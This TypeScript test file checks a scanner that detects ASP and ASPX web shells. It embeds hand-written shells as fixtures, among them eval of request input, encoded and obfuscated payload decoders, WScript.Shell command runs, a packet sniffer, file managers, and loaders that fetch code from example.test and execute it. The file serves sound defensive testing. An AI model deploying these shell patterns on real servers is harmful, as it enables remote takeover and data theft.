/**
 * Classic ASP and ASP.NET shells whose capability is hidden from a plain data-flow read: a long
 * payload behind the page's decoder, a decoded payload parked in the Session, Script-Encoded
 * pages with GBK quotes in their plain part, JScript eval of eval, a backdoor class constructed
 * from bin/, request code kept in base64, a sniffer, uploads dropped beside the page, file
 * managers, droppers and remote payload loaders. Each shell is hand-written for this test and
 * sits beside a benign look-alike that must not be called malicious.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { evaluatedCode } from '../../src/scan/analyzers/asp-interp.js';
import { findingOf, reasons, scriptEncode } from './helpers.js';

function verdict(path: string, code: string): string {
  return findingOf(path, code)?.verdict ?? 'clean';
}

function has(path: string, code: string, reason: string): boolean {
  return reasons(findingOf(path, code)).some((r) => r.includes(reason));
}

/** Reversed text with `Z` for each line break, `Q` for each quote (the erXM-style decoder's input). */
function reversedPayload(code: string): string {
  return Array.from(code.replace(/\n/g, 'Z').replace(/"/g, 'Q')).reverse().join('');
}

const DECODER = `Function unR(s):s = Replace(s, "Q", """"):For i = 1 To Len(s):If Mid(s, i, 1) <> "Z" Then:t = Mid(s, i, 1) & t:Else:t = vbCrLf & t:End If:Next:unR = t:End Function`;

test('asp decoders: a per-character decoder over a long payload is run to its end (Mid costs what it returns)', () => {
  const filler = Array.from({ length: 400 }, (_, i) => `Response.Write "<p>row ${i} of the report table</p>"`).join('\n');
  const payload = `${filler}\nExecute Request("cmd")`;
  assert.ok(payload.length > 12000);
  const page = `<%\nOn Error Resume Next:ExeCute(unR("${reversedPayload(payload)}")):${DECODER}\n%>`;
  const runs = evaluatedCode(page);
  assert.equal(runs.length, 1);
  assert.ok(runs[0]!.text.endsWith('Execute Request("cmd")'), runs[0]!.text.slice(-60));
  assert.equal(verdict('long.asp', page), 'malicious');
  // look-alike: the same decoder over the same long text that only writes HTML
  const benign = `<%\nExeCute(unR("${reversedPayload(filler)}")):${DECODER}\n%>`;
  assert.notEqual(verdict('report.asp', benign), 'malicious');
});

test('asp decoders: a payload decoded once into the Session and run from there', () => {
  const page = `<%\nenc = "${reversedPayload('eval request("pass")')}"\nIf Session("boot") = "" Then Session("boot") = unR(enc)\ncode = Session("boot")\nExecute code\n${DECODER.replace(/:/g, '\n')}\n%>`;
  assert.deepEqual(
    evaluatedCode(page).map((r) => r.text),
    ['eval request("pass")'],
  );
  assert.equal(verdict('sess.asp', page), 'malicious');
  // a Session key the run never set is the visitor's earlier state: unknown, not decoded
  const unset = `<%\nExecute Session("boot")\n%>`;
  assert.deepEqual(evaluatedCode(unset), []);
  // look-alike: a greeting decoded into the Session and printed
  const benign = `<%\nIf Session("hello") = "" Then Session("hello") = unR("${reversedPayload('Welcome back to the shop')}")\nResponse.Write Session("hello")\n${DECODER.replace(/:/g, '\n')}\n%>`;
  assert.equal(verdict('hello.asp', benign), 'clean');
});

test('asp decoders: a decoder result that is noise leaves the page a decoder feeding Execute', () => {
  const page = `<%\nExecute(Scr("abcd"))\nFunction Scr(s)\n  For i = 1 To Len(s)\n    Scr = Scr & Chr(Asc(Mid(s, i, 1)) Xor 96)\n  Next\nEnd Function\n%>`;
  assert.equal(evaluatedCode(page)[0]!.text, '\x01\x02\x03\x04');
  assert.ok(has('noise.asp', page, 'string computed by a function (decoder)'), reasons(findingOf('noise.asp', page)).join('; '));
});

test('script encoder: GBK quote bytes in the plain part do not corrupt the encoded blocks', () => {
  // the encoded block keeps its own GBK bytes as they are: a quote pair in there is data
  const body = `t = "\xa1\xb0ok\xa1\xb1"\nSet x = CreateObject("WScript.Shell")\nx.Run Request("c")`;
  // \xa1\xb0 ... \xa1\xb1 is a GBK curly quote pair standing where code has quotes
  const page = `<%\ntitle = \xa1\xb0Admin\xa1\xb1\n%>\n<%@ Language=VBScript.Encode %><%${scriptEncode(body)}%>\n<p>\xa1\xb0\xc4\xe3\xba\xc3\xa1\xb1</p>`;
  assert.ok(has('enc.asp', page, 'request input reaches shell Run'), reasons(findingOf('enc.asp', page)).join('; '));
  assert.ok(has('enc.asp', page, 'Script Encoder (decoded for analysis)'), reasons(findingOf('enc.asp', page)).join('; '));
});

test('jscript: eval of eval through the page wrapper (inner code names the request, outer runs its text)', () => {
  const wrapper = `<script runat="server" language="JScript">\nfunction pop(s) {\n  var a = "un" + "safe";\n  var b = eval(s, a);\n  return b;\n}\n</script>\n`;
  const shell = `${wrapper}<%\npop(pop(Decode("5265717565737420", "k")));\n%>`;
  assert.ok(has('e.aspx', shell, 'eval of eval'));
  assert.equal(verdict('e.aspx', shell), 'malicious');
  // look-alike: the wrapper fed a fixed expression once
  const benign = `${wrapper}<%\nvar total = pop("1 + 2");\n%>`;
  assert.ok(!has('calc.aspx', benign, 'eval of eval'));
});

test('aspx: a page that only constructs a backdoor class from bin/ with its key', () => {
  const shell = `<script language="C#" runat="server">\nWebAdmin2Y.x.y admin = new WebAdmin2Y.x.y("0f1e2d3c4b5a6978");\n</script>`;
  assert.equal(verdict('w.aspx', shell), 'malicious');
  const generic = `<script runat="server">\nBin.Tools.Gate g = new Bin.Tools.Gate("a1b2c3d4e5f60718");\n</script>`;
  assert.equal(verdict('g.aspx', generic), 'suspicious');
  // look-alikes: a control built with a name, and the same call inside a real page
  assert.equal(verdict('chart.aspx', `<script runat="server">\nContoso.Charts.Chart c = new Contoso.Charts.Chart("sales");\n</script>`), 'clean');
  const page = `<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object s, EventArgs e) {\n  var v = new Contoso.Cache.Key("a1b2c3d4e5f60718");\n  Label1.Text = v.ToString();\n}\n</script>`;
  assert.equal(verdict('cache.aspx', page), 'clean');
});

test('aspx: request-reading code kept as a base64 constant', () => {
  const b64 = Buffer.from('Request.Item["z"]').toString('base64');
  const shell = `<%\nrun(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("${b64}")));\n%>`;
  assert.equal(verdict('b.aspx', shell), 'malicious');
  const benign = `<%\nLabel1.Text = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("${Buffer.from('Hello, world').toString('base64')}"));\n%>`;
  assert.equal(verdict('hello.aspx', benign), 'clean');
});

test('aspx: a raw socket receiving every packet is a sniffer', () => {
  const shell = `<%@ Page Language="C#" %>\n<script runat="server">\nvoid Start(object s, EventArgs e) {\n  Socket k = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP);\n  k.Bind(new IPEndPoint(IPAddress.Parse(txtIp.Text), 0));\n  k.IOControl(IOControlCode.ReceiveAll, new byte[] {1, 0, 0, 0}, new byte[4]);\n}\n</script>`;
  assert.ok(has('sniff.aspx', shell, 'sniffer'));
  const benign = `<%@ Page Language="C#" %>\n<script runat="server">\nvoid Ping(object s, EventArgs e) {\n  Socket k = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n  k.Connect("db.internal", 5432);\n}\n</script>`;
  assert.ok(!has('ping.aspx', benign, 'sniffer'));
});

test('aspx: an upload saved beside the page under the client name, extension unchecked', () => {
  const save = `  HttpPostedFile f = Request.Files[0];\n  FileInfo me = new FileInfo(Request.PhysicalPath);\n  f.SaveAs(Path.Combine(me.DirectoryName, Path.GetFileName(f.FileName)));`;
  const shell = `<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n${save}\n}\n</script>`;
  assert.equal(verdict('up.aspx', shell), 'malicious');
  const checked = `<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  if (Path.GetExtension(Request.Files[0].FileName) != ".jpg") return;\n${save}\n}\n</script>`;
  // (the upload itself is still reported by the older rules: only the drop-beside-the-page reason is new)
  assert.ok(!has('photo.aspx', checked, 'extension unchecked'));
});

test('asp: listing the folders the request names and reading or deleting their files is a file manager', () => {
  const shell = `<%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\np = Request("p")\nSet d = fso.GetFolder(p)\nFor Each f In d.Files\n  Response.Write f.Name\nNext\nIf Request("del") <> "" Then fso.DeleteFile(Request("del"))\nSet t = fso.GetFile(Request("f"))\nResponse.Write t.Size\n%>`;
  assert.equal(verdict('fm.asp', shell), 'malicious');
  // look-alike: the same operations in an application's admin page (it includes the app's files)
  assert.notEqual(verdict('admin_files.asp', `<!--#include file="conn.asp"-->\n${shell}`), 'malicious');
  // look-alike: an admin page deleting one named cache file
  const benign = `<%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\nname = Request("name")\nfso.DeleteFile(Server.MapPath("/cache/" & name & ".htm"))\n%>`;
  assert.notEqual(verdict('cache.asp', benign), 'malicious');
});

test('asp: a script the page writes and then starts through WScript.Shell', () => {
  const shell = `<%\nSet fs = CreateObject("Scripting.FileSystemObject")\nSet s = fs.CreateTextFile("c:\\temp\\up.vbs", True)\ns.Write "CreateObject(""WScript.Shell"").Run ""notepad"""\ns.Close\nSet sh = CreateObject("WScript.Shell")\nsh.Run "c:\\temp\\up.vbs", 0, False\n%>`;
  assert.ok(has('drop.asp', shell, 'writes a script or program to disk and runs it'));
  assert.equal(verdict('drop.asp', shell), 'malicious');
  const benign = `<%\nSet fs = CreateObject("Scripting.FileSystemObject")\nSet s = fs.CreateTextFile("c:\\logs\\visits.txt", True)\ns.Write Now()\ns.Close\n%>`;
  assert.ok(!has('log.asp', benign, 'writes a script or program to disk and runs it'));
});

test('asp: a page of a few lines that downloads a script into the web root', () => {
  const shell = `<%\nSet x = CreateObject("Microsoft.XMLHTTP")\nx.Open "GET", "http://example.test/a.txt", False\nx.Send\nSet st = CreateObject("ADODB.Stream")\nst.Type = 1\nst.Open\nst.Write x.responseBody\nst.SaveToFile Server.MapPath("b.asp"), 2\n%>`;
  assert.equal(verdict('dl.asp', shell), 'malicious');
  // look-alike: an application page with the same update step among its other work
  const rest = Array.from({ length: 60 }, (_, i) => `Response.Write "<tr><td>setting ${i}</td><td>" & Application("s${i}") & "</td></tr>"`).join('\n');
  assert.notEqual(verdict('update.asp', `${shell.slice(0, -2)}\n${rest}\n%>`), 'malicious');
});

test('asp: Execute of code the page downloads (remote payload loader)', () => {
  const fetcher = `Function GetPage(u)\n  Set h = Server.CreateObject("MSXML2.ServerXMLHTTP")\n  h.Open "GET", u, False\n  h.Send\n  GetPage = h.ResponseText\nEnd Function\n`;
  const shell = `<%\n${fetcher}code = GetPage("http://example.test/p.txt")\nExecute code\n%>`;
  assert.ok(has('remote.asp', shell, 'remote payload loader'));
  assert.equal(verdict('remote.asp', shell), 'malicious');
  // look-alike: the page fetches a feed to print and runs a fixed routine name
  const benign = `<%\n${fetcher}feed = GetPage("http://example.test/news.xml")\nResponse.Write Server.HTMLEncode(feed)\nhandler = "ShowNews"\nExecute handler\n%>`;
  assert.ok(!has('news.asp', benign, 'remote payload loader'));
});

test('asp: a static-page generator fetching its own pages is not a proxy; a page fetching the requester URL is', () => {
  const generator = `<%\nsPath = "http://" & Request.ServerVariables("SERVER_NAME") & "/"\nid = Request.QueryString("id")\nFromURL = sPath & "list.asp?id=" & id\nFilePath = "../html/list_" & id\nFilePath = FilePath & ".html"\nSet h = Server.CreateObject("Microsoft.XMLHTTP")\nh.open "GET", FromURL, false\nh.send()\nSet st = Server.CreateObject("ADODB.Stream")\nst.Type = 1\nst.Open()\nst.Write(h.responseBody)\nst.SaveToFile Server.MapPath(FilePath), 2\n%>`;
  const r = reasons(findingOf('gen.asp', generator));
  assert.ok(!r.some((x) => x.includes('proxy')), r.join('; '));
  assert.notEqual(verdict('gen.asp', generator), 'malicious');
  const proxy = `<%\nu = Request("url")\nSet h = Server.CreateObject("Microsoft.XMLHTTP")\nh.open "GET", u, false\nh.send()\nResponse.BinaryWrite h.responseBody\n%>`;
  assert.ok(has('proxy.asp', proxy, 'request chooses a URL the server fetches'));
});

test('asp decoders: a substitution table with Chinese characters counts each GBK character as one', () => {
  // table characters: the page is read byte per char, so each Chinese character is two bytes here
  const cn = ['\xbc\xd7', '\xd2\xd2', '\xb1\xfb', '\xb6\xa1']; // 甲 乙 丙 丁 in GBK
  const plain = ['e', 'v', 'a', 'l'];
  const enc = 'eval request(""x"")'.replace(/[eval]/g, (c) => cn[plain.indexOf(c)]!);
  const page = `<%\nsod = Array("${plain.join('","')}")\nvmd = "${cn.join('')}"\nExecute Dec("${enc}")\nFunction Dec(s)\n  For i = 1 To Len(s)\n    c = Mid(s, i, 1)\n    k = InStr(vmd, c)\n    If k > 0 Then c = sod(k - 1)\n    Dec = Dec & c\n  Next\nEnd Function\n%>`;
  assert.deepEqual(
    evaluatedCode(page).map((r) => r.text),
    ['eval request("x")'],
  );
  assert.equal(verdict('cn.asp', page), 'malicious');
});

test('asp: a UTF-7 page is read with its escapes decoded', () => {
  const utf7 = (s: string) => {
    const b = Buffer.alloc(s.length * 2);
    for (let i = 0; i < s.length; i++) b.writeUInt16BE(s.charCodeAt(i), i * 2);
    return `+${b.toString('base64').replace(/=+$/, '')}-`;
  };
  const shell = `<%@codepage=65000%>\n<%\n${utf7('eval(request("k"))')}\n%>`;
  assert.equal(verdict('u7.asp', shell), 'malicious');
  const benign = `<%@codepage=65000%>\n<p>${utf7('Hello, visitor')}</p>`;
  assert.notEqual(verdict('hello7.asp', benign), 'malicious');
});

test('asp: request parameters imported as page variables through Execute', () => {
  const shell = `<%\nFor Each k In Request.Form\n  Execute "" & k & "=Request.Form(""" & k & """)"\nNext\nResponse.Write "ok"\n%>`;
  assert.ok(has('globals.asp', shell, 'every request parameter imported as a page variable'));
  assert.notEqual(verdict('globals.asp', shell), 'clean');
  // the name passed through a filter function first
  const filtered = `<%\nFor Each k In Request.QueryString\n  Execute Clean(k) & "=Request.QueryString(""" & k & """)"\nNext\n%>`;
  assert.ok(has('globals2.asp', filtered, 'every request parameter imported as a page variable'));
  // look-alike: the form echoed back, nothing executed
  const benign = `<%\nFor Each k In Request.Form\n  Response.Write Server.HTMLEncode(k) & "=" & Server.HTMLEncode(Request.Form(k)) & "<br>"\nNext\n%>`;
  assert.equal(verdict('echo.asp', benign), 'clean');
});
